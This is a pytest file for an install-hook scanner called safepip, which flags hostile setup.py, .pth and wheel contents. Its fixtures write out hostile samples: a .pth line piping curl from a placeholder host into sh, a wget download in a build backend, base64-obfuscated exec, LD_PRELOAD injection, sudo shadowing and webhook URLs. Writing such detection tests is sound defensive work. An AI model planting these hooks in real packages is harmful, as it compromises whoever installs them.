"""The install-hook scanner on real sdists and wheels: one hostile sample and one benign
near-miss per rule, severities, locations and evidence."""

from __future__ import annotations

from pathlib import Path

import pytest

from safepip.checks.hooks.rules import RULES
from safepip.checks.install_hooks import InstallHookCheck, identify, scan_path
from safepip.findings import Finding, Severity
from tests.checks.hostile import CASES, Case, beyond_canary, make_sdist, make_wheel, setup_py


def _rule(findings: list[Finding], rule: str) -> list[Finding]:
    return [f for f in findings if f.rule == rule]


def _worst(findings: list[Finding], rule: str) -> Severity | None:
    return max((f.severity for f in _rule(findings, rule)), default=None)


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.rule)
def test_hostile_setup_py_fires_the_rule(case: Case, tmp_path: Path) -> None:
    sdist = make_sdist(
        tmp_path, "demo", "1.0", {"setup.py": setup_py(case.hostile, tmp_path / "c")}
    )
    findings = scan_path(sdist)
    worst = _worst(findings, case.rule)
    assert worst is not None and worst >= Severity.parse(case.minimum), findings
    hit = _rule(findings, case.rule)[0]
    assert hit.package == "demo" and hit.version == "1.0"
    assert hit.location is not None and hit.location.path == "demo-1.0/setup.py"
    assert hit.location.line and hit.evidence and hit.message.endswith("(install time).")
    assert not (tmp_path / "c").exists()


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.rule)
def test_benign_near_miss_stays_below_low(case: Case, tmp_path: Path) -> None:
    sdist = make_sdist(
        tmp_path, "demo", "1.0", {"setup.py": setup_py(case.near_miss, tmp_path / "c")}
    )
    findings = beyond_canary(scan_path(sdist), tmp_path / "c")
    assert all(f.severity < Severity.LOW for f in _rule(findings, case.rule)), findings
    assert all(f.severity < Severity.MEDIUM for f in findings), findings


def test_every_rule_is_documented() -> None:
    for rule_id, info in RULES.items():
        assert rule_id == info.id and rule_id.startswith("hook/")
        assert info.short and info.full and info.help
    assert {c.rule for c in CASES} <= set(RULES)


def test_build_tools_are_info_and_computed_commands_low(tmp_path: Path) -> None:
    body = (
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'cython'])\n"
        "cmd = [sys.argv[1]]\nsubprocess.call(cmd)\n"
    )
    findings = scan_path(
        make_sdist(tmp_path, "demo", "1.0", {"setup.py": setup_py(body, tmp_path)})
    )
    severities = sorted(f.severity for f in _rule(findings, "hook/process-exec"))
    assert severities == [Severity.INFO, Severity.LOW]


def test_setup_imports_are_install_time_and_package_code_is_lowered(tmp_path: Path) -> None:
    hidden = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    files = {
        "setup.py": "import build_helpers\nfrom setuptools import setup\nsetup()\n",
        "build_helpers.py": hidden,
        "demo/__init__.py": hidden,
    }
    findings = _rule(scan_path(make_sdist(tmp_path, "demo", "1.0", files)), "hook/exec-obfuscated")
    by_path = {f.location.path: f for f in findings if f.location}
    assert by_path["demo-1.0/build_helpers.py"].severity is Severity.CRITICAL
    assert by_path["demo-1.0/demo/__init__.py"].severity is Severity.HIGH
    assert by_path["demo-1.0/demo/__init__.py"].message.endswith("(import time).")


def test_in_tree_backend_is_reported_and_scanned(tmp_path: Path) -> None:
    files = {
        "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\n"
        "backend-path = ['_build']\n",
        "_build/backend.py": "import os\nos.system('wget https://example.invalid/a -O /tmp/a')\n",
    }
    findings = scan_path(make_sdist(tmp_path, "demo", "1.0", files))
    assert _worst(findings, "hook/custom-backend") is Severity.LOW
    assert _worst(findings, "hook/download-exec") is Severity.HIGH
    near = {
        "pyproject.toml": "[build-system]\nrequires = ['setuptools']\n"
        "build-backend = 'setuptools.build_meta'\n"
    }
    assert (
        _rule(
            scan_path(make_sdist(tmp_path / "n", "demo", "1.0", near))
            if (tmp_path / "n").mkdir() is None
            else [],
            "hook/custom-backend",
        )
        == []
    )


def test_pth_with_code_fires_and_path_entries_do_not(tmp_path: Path) -> None:
    hostile = {"evil.pth": "import os; exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"}
    findings = scan_path(make_wheel(tmp_path, "demo", "1.0", hostile))
    assert _worst(findings, "hook/pth-exec") is Severity.CRITICAL
    plain = {"demo.pth": "src\n../lib\n# comment\n"}
    (tmp_path / "n").mkdir()
    assert _rule(scan_path(make_wheel(tmp_path / "n", "demo", "1.0", plain)), "hook/pth-exec") == []
    shim = {"shim.pth": "import demo_shim\n"}
    (tmp_path / "s").mkdir()
    assert (
        _worst(scan_path(make_wheel(tmp_path / "s", "demo", "1.0", shim)), "hook/pth-exec")
        is Severity.MEDIUM
    )


def test_console_script_shadowing(tmp_path: Path) -> None:
    hostile = {"{info}/entry_points.txt": "[console_scripts]\nsudo = demo:main\ndemo = demo:cli\n"}
    findings = _rule(
        scan_path(make_wheel(tmp_path, "demo", "1.0", hostile)), "hook/console-script-shadow"
    )
    assert [f.evidence for f in findings] == ["sudo"] and findings[0].severity is Severity.HIGH
    (tmp_path / "p").mkdir()
    own = {"{info}/entry_points.txt": "[console_scripts]\npip3 = pip:main\n"}
    assert (
        _rule(
            scan_path(make_wheel(tmp_path / "p", "pip", "1.0", own)), "hook/console-script-shadow"
        )
        == []
    )
    (tmp_path / "s").mkdir()
    setup = (
        "from setuptools import setup\nsetup(entry_points={'console_scripts': ['ls = demo:m']})\n"
    )
    assert _rule(
        scan_path(make_sdist(tmp_path / "s", "demo", "1.0", {"setup.py": setup})),
        "hook/console-script-shadow",
    )


def test_native_binary_in_sdist(tmp_path: Path) -> None:
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 64
    findings = scan_path(make_sdist(tmp_path, "demo", "1.0", {"helper": elf}))
    assert _worst(findings, "hook/native-binary") is Severity.MEDIUM
    (tmp_path / "n").mkdir()
    text = {"helper": "#!/bin/sh\necho hi\n", "MZ-notes": "MZ is not enough\n"}
    assert (
        _rule(scan_path(make_sdist(tmp_path / "n", "demo", "1.0", text)), "hook/native-binary")
        == []
    )


def test_unparsable_setup_py_is_not_called_safe(tmp_path: Path) -> None:
    findings = scan_path(make_sdist(tmp_path, "demo", "1.0", {"setup.py": "print 'py2'\n"}))
    assert _worst(findings, "hook/unparsable") is Severity.HIGH
    (tmp_path / "n").mkdir()
    ok = scan_path(make_sdist(tmp_path / "n", "demo", "1.0", {"setup.py": "print('py3')\n"}))
    assert _rule(ok, "hook/unparsable") == []


def test_directory_scan_skips_symlinks(tmp_path: Path) -> None:
    project = tmp_path / "demo"
    project.mkdir()
    (project / "setup.py").write_text("from setuptools import setup\nsetup()\n")
    secret = tmp_path / "elsewhere.py"
    secret.write_text("HOOK = 'https://discord.com/api/webhooks/1/2'\n")
    (project / "linked.py").symlink_to(secret)
    assert _rule(scan_path(project), "hook/webhook") == []
    (project / "real.py").write_text(secret.read_text())
    assert _rule(InstallHookCheck().check_artifact(_unpacked(project)), "hook/webhook")


def _unpacked(root: Path):  # type: ignore[no-untyped-def]
    from safepip.checks.interface import UnpackedArtifact

    return UnpackedArtifact(*identify(root)[:2], root.name, "sdist", root)


def test_unsafe_members_are_findings_and_scan_continues(tmp_path: Path) -> None:
    import io
    import tarfile

    path = tmp_path / "demo-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as bundle:
        link = tarfile.TarInfo("demo-1.0/escape")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc"
        bundle.addfile(link)
        data = b"HOOK = 'https://hooks.slack.com/services/x'\n"
        info = tarfile.TarInfo("demo-1.0/setup.py")
        info.size = len(data)
        bundle.addfile(info, io.BytesIO(data))
    findings = scan_path(path)
    unsafe = _rule(findings, "archive/unsafe-member")
    assert (
        unsafe and unsafe[0].severity is Severity.HIGH and unsafe[0].evidence == "demo-1.0/escape"
    )
    assert _rule(findings, "hook/webhook")


def test_directory_scan_skips_vcs_and_virtualenvs(tmp_path: Path) -> None:
    project = tmp_path / "demo"
    hook = "HOOK = 'https://discord.com/api/webhooks/1/2'\n"
    for folder in (".git/hooks", ".venv/lib", "node_modules/x"):
        (project / folder).mkdir(parents=True)
        (project / folder / "m.py").write_text(hook)
    (project / ".venv" / "pyvenv.cfg").write_text("home = /usr\n")
    (project / "env2").mkdir()
    (project / "env2" / "pyvenv.cfg").write_text("home = /usr\n")
    (project / "env2" / "m.py").write_text(hook)
    assert _rule(scan_path(project), "hook/webhook") == []
    (project / "demo").mkdir()
    (project / "demo" / "m.py").write_text(hook)
    assert [f.location.path for f in _rule(scan_path(project), "hook/webhook") if f.location] == [
        "demo/m.py"
    ]


def test_memory_and_disk_paths_agree(tmp_path: Path) -> None:
    """scan_path reads members into memory; over the budget it extracts to disk instead."""
    files = {f"setup{i}.py" if i else "setup.py": setup_py(case.hostile, tmp_path / "c")
             for i, case in enumerate(CASES)}
    files["setup.py"] = "import setup1, setup2, setup3\n" + files["setup.py"]
    files["demo/__init__.py"] = CASES[1].hostile
    files[".git/hooks/x.py"] = CASES[7].hostile  # skipped on both paths
    sdist = make_sdist(tmp_path, "demo", "1.0", files)
    in_memory = scan_path(sdist)
    on_disk = scan_path(sdist, memory_budget=0)
    assert sorted(map(repr, in_memory)) == sorted(map(repr, on_disk))
    assert {f.location.path for f in in_memory if f.location} >= {
        "demo-1.0/setup.py", "demo-1.0/setup1.py", "demo-1.0/demo/__init__.py"}
    assert not any(".git" in (f.location.path if f.location else "") for f in in_memory)


def test_reversed_literal_is_decoding_but_reversed_computed_data_is_not(tmp_path: Path) -> None:
    hostile = "payload = \")'tuo'(tnirp\"\nexec(payload[::-1])\n"
    benign = (  # IPython's completer: tokens it collected, joined in reverse, then evaluated
        "def complete(ids, namespace):\n"
        "    name = '.'.join(ids[::-1])\n"
        "    return eval(name, namespace)\n"
    )
    bad = scan_path(make_sdist(tmp_path, "demo", "1.0", {"setup.py": hostile}))
    assert _worst(bad, "hook/exec-obfuscated") == Severity.CRITICAL
    good = scan_path(make_sdist(tmp_path, "other", "1.0", {"setup.py": benign}))
    assert _rule(good, "hook/exec-obfuscated") == []


COVERAGE_PTH = (
    "import sys; exec('import os\\n\\nif os.getenv(\"COVERAGE_PROCESS_START\") or "
    "os.getenv(\"COVERAGE_PROCESS_CONFIG\"):\\n try:\\n  import coverage\\n except:\\n  pass\\n"
    " else:\\n  coverage.process_startup(slug=\"pth\")')\n"
)
SETUPTOOLS_PTH = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
    "'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
)


NAMESPACE_PTH = (  # setuptools' `*-nspkg.pth` template, as in older namespace wheels
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
    "sys._getframe(1).f_locals['sitedir'], *('nsp',));importlib = has_mfs and "
    "__import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and "
    "sys.modules.setdefault('nsp', importlib.util.module_from_spec(importlib.machinery."
    "PathFinder.find_spec('nsp', [os.path.dirname(p)])));m = m or sys.modules.setdefault('nsp',"
    " types.ModuleType('nsp'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not "
    "in mp) and mp.append(p)\n"
)


@pytest.mark.parametrize(
    "pth,module",
    [(COVERAGE_PTH, "coverage/__init__.py"), (SETUPTOOLS_PTH, "_distutils_hack/__init__.py"),
     (NAMESPACE_PTH, "nsp/demo/__init__.py")],
    ids=["coverage", "setuptools", "namespace"],
)
def test_pth_that_reads_env_and_calls_its_own_package_is_ordinary(
    tmp_path: Path, pth: str, module: str
) -> None:
    """Issue 14: coverage's `.pth` (an `exec` of a literal) blocked pytest-cov and poetry."""
    files = {"a1_hook.pth": pth, module: "def process_startup(slug=''): pass\n"
             "def add_shim(): pass\n"}
    findings = scan_path(make_wheel(tmp_path, "demo", "1.0", files))
    assert _worst(findings, "hook/pth-exec") is Severity.LOW
    # The same line in a distribution that does not own the module it calls is not ordinary.
    (tmp_path / "other").mkdir()
    foreign = scan_path(make_wheel(tmp_path / "other", "demo", "1.0", {"a1_hook.pth": pth}))
    assert (_worst(foreign, "hook/pth-exec") or Severity.INFO) >= Severity.MEDIUM


@pytest.mark.parametrize(
    "pth",
    [
        "import sys; exec('import os\\nos.system(\"curl -s http://x.invalid | sh\")')\n",
        "import demo; exec(demo.PAYLOAD)\n",
        "import os; exec(os.environ.get('X', ''))\n",
        "import demo, subprocess; subprocess.call(['sh'])\n",
        "import os; os.system('id')\n",  # `os` shipped by the wheel is never its own
        "import demo; [demo.run() for _ in '1']\n",
        "import os; e = os.environ; e.setdefault('LD_PRELOAD', '/tmp/x.so')\n",
        "import os; os.environ['LD_PRELOAD'] = '/tmp/x.so'\n",
        "import sys; p = 1 and sys.path; q = p; q.append('/tmp')\n",
        "import sys; sys.modules.setdefault('os', __import__('demo'))\n",
        "import sys; __import__('subprocess').call(['id'])\n",
    ],
)
def test_pth_doing_more_than_that_is_not_ordinary(tmp_path: Path, pth: str) -> None:
    files = {"a1_hook.pth": pth, "demo/__init__.py": "PAYLOAD = ''\ndef run(): pass\n",
             "os/__init__.py": "def system(c): pass\n"}
    findings = scan_path(make_wheel(tmp_path, "demo", "1.0", files))
    assert (_worst(findings, "hook/pth-exec") or Severity.INFO) >= Severity.MEDIUM


@pytest.mark.parametrize(
    "pth",
    [
        "import os; os.system('touch /tmp/marker')\n",
        "import subprocess; subprocess.run(['true'])\n",
        "import os; open(os.path.expanduser('~/.profile'), 'a').write('x')\n",
    ],
)
def test_pth_that_starts_a_process_or_writes_outside_is_critical(
    tmp_path: Path, pth: str
) -> None:
    """No build runs at interpreter start: a process or a write outside the tree there is never
    ordinary, however harmless its command looks."""
    findings = scan_path(make_wheel(tmp_path, "demo", "1.0", {"a1_hook.pth": pth}))
    assert _worst(findings, "hook/pth-exec") is Severity.CRITICAL


def test_module_a_pth_imports_is_judged_as_install_time_code(tmp_path: Path) -> None:
    """`import demo._boot` in a .pth runs that module at every start of Python."""
    files = {"demo.pth": "import demo._boot\n", "demo/__init__.py": "",
             "demo/_boot.py": "import os\nos.system('touch /tmp/marker')\n"}
    findings = scan_path(make_wheel(tmp_path, "demo", "1.0", files))
    assert (_worst(findings, "hook/outside-write") or Severity.INFO) >= Severity.HIGH
    # The same module without a .pth that imports it is library code, judged at import time.
    (tmp_path / "lib").mkdir()
    library = {k: v for k, v in files.items() if not k.endswith(".pth")}
    quiet = scan_path(make_wheel(tmp_path / "lib", "demo", "1.0", library))
    assert all(f.severity < Severity.HIGH for f in quiet)


def test_a_module_an_ordinary_pth_calls_stays_ordinary(tmp_path: Path) -> None:
    """coverage's shape: the .pth imports its own package, whose import defines functions."""
    files = {"a1_demo.pth": "import os, demo; os.environ.get('DEMO_START') and demo.start()\n",
             "demo/__init__.py": "import os\n\ndef start():\n    return os.environ.get('X')\n"}
    findings = scan_path(make_wheel(tmp_path, "demo", "1.0", files))
    assert all(f.severity <= Severity.LOW for f in findings)


@pytest.mark.parametrize("where", ["", "demo-1.0.data/purelib/"])
def test_a_wheel_that_installs_sitecustomize_is_persistence(tmp_path: Path, where: str) -> None:
    files = {f"{where}sitecustomize.py": "import sys\n", "demo/__init__.py": ""}
    findings = scan_path(make_wheel(tmp_path, "demo", "1.0", files))
    assert _worst(findings, "hook/persistence") is Severity.HIGH


def test_a_sitecustomize_inside_a_package_is_not(tmp_path: Path) -> None:
    """debugpy ships one deep in its vendored tree, where site never looks."""
    files = {"demo/_vendored/boot/sitecustomize.py": "import sys\n", "demo/__init__.py": ""}
    findings = scan_path(make_wheel(tmp_path, "demo", "1.0", files))
    assert _rule(findings, "hook/persistence") == []
